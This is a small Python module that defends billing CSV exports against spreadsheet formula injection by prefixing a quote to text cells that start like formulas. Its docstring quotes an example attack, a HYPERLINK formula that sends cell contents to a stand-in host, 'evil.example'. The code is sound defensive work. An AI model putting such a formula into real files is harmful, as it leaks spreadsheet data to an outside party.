"""Free text in the files billing opens in a spreadsheet, made inert.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or CR) is a formula to Excel, LibreOffice
and Google Sheets (OWASP "CSV Injection"): a correction's reason
``=HYPERLINK("http://evil.example/?"&A1,"see note")`` went into the billing reads CSV as it was,
a link sending the sheet's cells elsewhere when clicked.
"""

from __future__ import annotations

#: OWASP's list of a formula's first characters.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_text(text: str) -> str:
    """The text with a leading "'" when it starts like a formula: a spreadsheet shows it, never runs
    it. For text cells only (ids, names, reasons): a number's minus sign is no formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text
